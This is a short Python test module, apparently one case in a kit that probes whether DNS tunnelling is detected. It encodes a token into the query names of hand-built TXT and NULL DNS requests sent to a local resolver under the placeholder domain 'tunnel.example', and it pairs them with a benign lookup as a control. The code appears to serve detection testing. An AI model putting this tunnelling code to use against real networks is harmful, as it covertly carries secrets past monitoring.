"""N8: carries data out in the names that it asks a resolver for"""
from kit import *


def query(name, kind=16):
    """A question in DNS's form (RFC 1035, section 4)."""
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack("!6H", 4660, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def sender():
    connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    connection.settimeout(30)
    return connection


def tunnel(w, kind):
    connection = sender()
    data = w.token.hex() if isinstance(w.token, bytes) else w.token
    for number in range(20):
        connection.sendto(query(f"{number}.{data[:60]}.{data[:60]}.tunnel.example", kind), ("127.0.0.1", w.dns_port))
    return connection.recv(512)


def attack(w):
    if not w.dns_port:
        yield "ask", lambda: missing("port 53 is taken here")
        return
    yield "TXT records", lambda: tunnel(w, 16)
    yield "NULL records", lambda: tunnel(w, 10)


def twin(w):
    yield "the name of this machine", lambda: socket.gethostbyname("localhost")
